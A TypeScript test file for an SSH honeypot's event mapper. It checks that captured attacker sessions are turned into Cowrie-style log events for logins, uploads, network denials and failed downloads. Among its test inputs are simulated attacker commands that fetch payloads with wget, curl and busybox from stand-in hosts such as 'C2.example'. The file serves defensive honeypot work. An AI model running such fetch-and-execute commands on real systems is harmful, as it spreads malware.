import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import type { CowrieEvent } from "../../gateway/events/cowrie-event.ts";
import { u32 } from "../../gateway/ssh/messages/writer.ts";
import { Conversation } from "../evidence/conversation.ts";
import { HOSTILE_FACTS } from "../evidence/network-facts.ts";
import { busy, CONTEXT, everything, map, RECORDING } from "./everything.ts";
import { EVENTS, faults, orderFaults } from "./field-table.ts";

function only(events: readonly CowrieEvent[], name: string): CowrieEvent {
  const found = events.filter(({ eventid }) => eventid === `cowrie.${name}`);
  assert.equal(found.length, 1, `${found.length} of ${name}`);
  return found[0] as CowrieEvent;
}

test("a session's events in their order", () => {
  const events = map(everything().whole());
  assert.deepEqual(
    events.map(({ eventid }) => eventid.replace("cowrie.", "")),
    [
      "session.connect",
      "client.version",
      "client.kex",
      "client.fingerprint",
      "login.failed",
      "login.failed",
      "login.success",
      "session.params",
      "client.var",
      "client.size",
      "command.input",
      "client.size",
      "command.input",
      "command.input",
      "session.file_upload",
      "direct-tcpip.request",
      "direct-tcpip.data",
      "client.malformed_packet",
      "network.denied",
      "network.sinkholed",
      "network.allowed",
      "network.capped",
      "network.denied",
      "log.closed",
      "session.closed",
    ],
  );
  assert.deepEqual(
    events.map((event) => event.mitsubako_sequence),
    Array.from(events, (_, index) => index),
  );
});

test("every field is there and of the type that the schema gives it", () => {
  const events = map(everything().whole());
  assert.deepEqual(events.flatMap(faults), []);
  assert.deepEqual(orderFaults(events), []);
  const seen = new Set(
    [...events, ...map(busy().whole())].map(({ eventid }) => eventid.replace("cowrie.", "")),
  );
  assert.deepEqual(
    Object.keys(EVENTS).filter((name) => !seen.has(name)),
    // These are tried below, with captures, and with the courier.
    [
      "session.file_download.failed",
      "session.file_download",
      "webhook.dropped",
      "policy.changed",
      "policy.refused",
    ],
  );
});

test("each event's own fields", () => {
  const events = map(everything().whole());
  const connect = only(events, "session.connect");
  assert.deepEqual(Object.fromEntries(Object.entries(connect).slice(0, 11)), {
    eventid: "cowrie.session.connect",
    timestamp: "2026-11-23T02:15:37.223438Z",
    session: "0a1b2c3d4e5f",
    mitsubako_sequence: 0,
    src_ip: "192.0.2.7",
    src_port: 50123,
    dst_ip: "198.51.100.1",
    dst_port: 22,
    protocol: "ssh",
    sensor: "lab",
    uuid: CONTEXT.uuid,
  });
  const kex = only(events, "client.kex");
  assert.deepEqual(kex["langCS"], [""]);
  assert.equal(
    kex["hasshAlgorithms"],
    "curve25519-sha256,ext-info-c;chacha20-poly1305@openssh.com,aes128-ctr;hmac-sha2-256;none,zlib@openssh.com",
  );
  const [byKey, byPassword] = events.filter(({ eventid }) => eventid === "cowrie.login.failed");
  assert.equal(byKey?.["password"], undefined);
  assert.equal(byKey?.["key"], "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==");
  assert.equal(byKey["type"], "ssh-ed25519");
  assert.equal(byPassword?.["password"], "123456");
  const success = only(events, "login.success");
  assert.equal(success["password"], "p\ufffdss\0");
  assert.deepEqual(
    Buffer.from(String(success["mitsubako_password_bytes"]), "base64"),
    Buffer.from("p\xe4ss\0", "latin1"),
  );
  const upload = only(events, "session.file_upload");
  const sha = createHash("sha256").update("\x7fELF", "latin1").digest("hex");
  assert.equal(upload["shasum"], sha);
  assert.equal(upload["outfile"], `data/artifacts/${sha}`);
  assert.equal(upload["filename"], "/tmp/x");
  const request = only(events, "direct-tcpip.request");
  assert.equal(request["src_ip"], "192.0.2.7");
  assert.deepEqual([request["dst_ip"], request["dst_port"]], ["203.0.113.9", 80]);
  assert.deepEqual([request["orig_ip"], request["orig_port"]], ["127.0.0.1", 40000]);
  assert.equal(only(events, "direct-tcpip.data")["data"], "GET / HTTP/1.0\r\n\r\n");
  const closed = only(events, "session.closed");
  assert.deepEqual([closed["duration"], closed["duration_ms"]], ["2.5", 2451]);
  assert.equal(closed["timestamp"], "2026-11-23T02:15:39.674438Z");
  assert.equal(closed["mitsubako_end_reason"], "client-closed");
  const log = only(events, "log.closed");
  assert.deepEqual(
    [log["ttylog"], log["size"], log["shasum"]],
    ["data/recordings/2026-11-23/0a1b2c3d4e5f/session.mbr", 4711, RECORDING.sha256],
  );
});

test("what was tried on the network, and whether it was stopped", () => {
  const [bot, sinkhole, dns, cap, other] = map(everything().whole()).filter(({ eventid }) =>
    eventid.startsWith("cowrie.network."),
  );
  assert.deepEqual(Object.entries(bot ?? {}).slice(6), [
    ["dst_ip", "203.0.113.5"],
    ["dst_port", 25],
    ["protocol", "ssh"],
    ["sensor", "lab"],
    ["uuid", CONTEXT.uuid],
    ["message", "Stopped: tcp to 203.0.113.5:25, rule bot, 14 times"],
    ["mitsubako_protocol", "tcp"],
    ["mitsubako_rule", "bot"],
    ["mitsubako_src_port", 40_000],
    ["mitsubako_count", 14],
  ]);
  assert.deepEqual(
    [bot?.["src_ip"], bot?.["src_port"]],
    ["192.0.2.7", 50_123],
    "the attacker's, as everywhere",
  );
  assert.equal(sinkhole?.["mitsubako_name"], "c2.example");
  assert.equal(sinkhole["data"], "GET /\x1b[2J HTTP/1.1\r\nHost: c2\ufffd\r\n");
  assert.equal(
    Buffer.from(String(sinkhole["mitsubako_data_bytes"]), "base64").toString("latin1"),
    "GET /\x1b[2J HTTP/1.1\r\nHost: c2\xff\r\n",
  );
  assert.equal(sinkhole["mitsubako_size"], 5000);
  assert.equal(dns?.["message"], "Let out: udp to 198.51.100.53:53 (updates.example), rule dns");
  assert.equal(cap?.["message"], "Stopped by a cap: tcp to 203.0.113.9:80, rule cap");
  assert.equal(other?.["mitsubako_protocol_number"], 47);
  assert.equal(other["message"], "Stopped: protocol 47 to 169.254.169.254, rule fence");
});

test("a download whose own address, or name, was denied has failed; another has not", () => {
  const talk = new Conversation().login();
  const run = (command: string) => {
    const exec = talk.open();
    talk.exec(exec, command).exits(exec, 1);
  };
  const deny = (address: string, port: number, more: object = {}) =>
    talk.fact({
      ...{ kind: "network", rule: "egress", protocol: "tcp", from: 1, to: { address, port }, count: 1 },
      ...more,
    } as never);
  run("cd /tmp; wget -q http://203.0.113.9/a.sh -O a || curl 203.0.113.9:8080/b; echo http://203.0.113.10/");
  run(
    "busybox wget http://203.0.113.9/c; /usr/bin/curl -sO https://C2.example/d; wget $URL; scp 203.0.113.9/",
  );
  deny("203.0.113.10", 80);
  deny("203.0.113.9", 443);
  deny("203.0.113.9", 80, { rule: "limited" });
  deny("203.0.113.9", 8080, { protocol: "udp" });
  deny("203.0.113.9", 80);
  deny("203.0.113.9", 80);
  deny("192.0.2.53", 53, { protocol: "udp", rule: "dns-rate", name: "c2.example" });
  deny("203.0.113.9", 8080, { rule: "rate" });
  const failed = map(talk.whole()).filter(({ eventid }) => eventid.endsWith(".failed"));
  assert.deepEqual(
    failed.map(({ eventid, url, error }) => [eventid, url, error]),
    [
      ["http://203.0.113.9/a.sh", "egress"],
      ["http://203.0.113.9/c", "egress"],
      ["https://C2.example/d", "dns-rate"],
      ["http://203.0.113.9:8080/b", "rate"],
    ].map(([url, rule]) => ["cowrie.session.file_download.failed", url, `denied by the rule ${rule ?? ""}`]),
  );
  assert.deepEqual(failed.flatMap(faults), []);
});

test("a network fact that is none, or of a rule that nobody knows, makes no event", () => {
  const talk = new Conversation().login();
  const before = map(talk.whole()).length;
  for (const fact of HOSTILE_FACTS) talk.fact(fact as never);
  assert.equal(map(talk.whole()).length, before);
});

test("a key that would do is an offer, not a login; an attempt without an answer failed", () => {
  const talk = new Conversation().hello().key("root", false, "key-acceptable").key("root", true, "accepted");
  const events = map(talk.whole());
  only(events, "client.fingerprint");
  assert.equal(
    only(events, "login.success")["fingerprint"],
    "00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd:ee:ff",
  );
  const cut = new Conversation().hello();
  cut.fact({ kind: "attempt", number: 1, user: "x" as never, method: "password" });
  only(map(cut.entries), "login.failed");
});

test("a recording that was cut off is closed as such", () => {
  const events = map(everything().entries);
  assert.equal(only(events, "session.closed")["mitsubako_end_reason"], "cut-off");
});

test("the same entries give the same events, in whatever order of calls", () => {
  const entries = everything().whole();
  assert.deepEqual(map(entries), map(entries));
});

test("times are right across a second, a day and a year", () => {
  const talk = new Conversation("0a1b2c3d4e5f", "2026-12-31T23:59:59.999999Z");
  talk.afterNanoseconds(1000n).hello();
  assert.equal(only(map(talk.whole()), "client.version")["timestamp"], "2027-01-01T00:00:00.000000Z");
});

test("a flood of requests makes a bounded number of events, and says so", () => {
  const talk = new Conversation().login();
  const shell = talk.open();
  talk.shell(shell);
  const one = talk.entries.length;
  talk.request(shell, "window-change", u32(1), u32(1), u32(0), u32(0));
  const flood = talk.entries.slice(one);
  const entries = [...talk.entries, ...Array.from({ length: 60_000 }, () => flood).flat()];
  const events = map(entries);
  assert.equal(events.length, 50_002);
  assert.equal(only(events, "session.closed")["mitsubako_left_out"], 10_007);
});
